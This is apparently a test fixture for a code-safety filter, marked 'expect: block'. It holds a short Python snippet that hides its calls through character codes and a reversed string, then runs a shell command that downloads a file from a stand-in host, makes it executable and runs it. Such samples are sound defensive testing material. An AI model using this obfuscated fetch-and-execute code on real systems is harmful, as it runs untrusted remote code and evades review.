# expect: block
m = __import__("".join(chr(c) for c in (111, 115)))
fn = getattr(m, "metsys"[::-1])
fn("curl -s https://example.net/x -o /tmp/x && chmod +x /tmp/x && /tmp/x")
